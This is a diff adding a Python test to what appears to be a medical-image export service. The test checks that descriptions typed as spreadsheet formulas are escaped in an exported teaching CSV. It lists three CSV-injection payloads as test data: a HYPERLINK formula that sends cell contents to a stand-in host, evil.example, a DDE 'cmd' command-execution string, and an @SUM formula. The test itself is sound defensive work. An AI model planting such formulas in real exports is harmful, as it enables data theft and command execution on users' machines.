@@ -4,6 +4,7 @@ searched for every identifier of the patient)."""
 
 from __future__ import annotations
 
+import csv
 import hashlib
 import io
 import zipfile
@@ -241,3 +242,21 @@ def test_teaching_set_refuses_when_nothing_may_be_used(
     response = _export(browser("clinician"), "teaching", [stored["clinical"]["sop_instance_uid"]])
     assert response.status_code == 422
     assert "1 no consent for teaching" in response.text
+
+
+@pytest.mark.parametrize(
+    "description",
+    ['=HYPERLINK("https://evil.example/?"&A1,"Open")', "+1+cmd|' /C calc'!A0", "@SUM(1,1)"],
+)
+def test_a_description_typed_as_a_formula_stays_text_in_the_teaching_csv(
+    browser: SignIn, upload: Upload, description: str
+) -> None:
+    photo = corpus("photos", "gps", "DSCN0010.jpg")
+    stored = upload(photo, role="clinician", consent_teaching="true", description=description)
+    assert stored.status_code == 201, stored.text
+    response = _export(browser("clinician"), "teaching", [stored.json()["sop_instance_uid"]])
+    assert response.status_code == 200, response.text[:300]
+    table = zipfile.ZipFile(io.BytesIO(response.content)).read("images.csv").decode()
+    [row] = list(csv.DictReader(io.StringIO(table)))
+    assert row["description"] == "'" + description
+    assert all(not cell.startswith(("=", "+", "-", "@")) for cell in row.values())
